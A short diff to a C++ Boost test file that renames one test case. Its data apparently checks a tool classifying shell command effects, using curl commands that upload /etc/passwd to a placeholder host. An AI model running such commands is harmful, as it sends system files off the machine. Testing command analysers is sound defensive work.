@@ -92,7 +92,7 @@ BOOST_AUTO_TEST_CASE(uploads_are_sent) {
     check("scp u@h:/tmp/x .", "scp", effect_kind::fetches, {"u@h:/tmp/x"});
 }
 
-BOOST_AUTO_TEST_CASE(file_that_a_client_is_told_to_send_is_read) {
+BOOST_AUTO_TEST_CASE(file_that_a_client_is_asked_to_send_is_read) {
     check("curl -F f=@/etc/passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
     check("curl -F 'f=@/etc/passwd;type=text/plain' http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
     check("curl -F 'n=</etc/passwd' http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
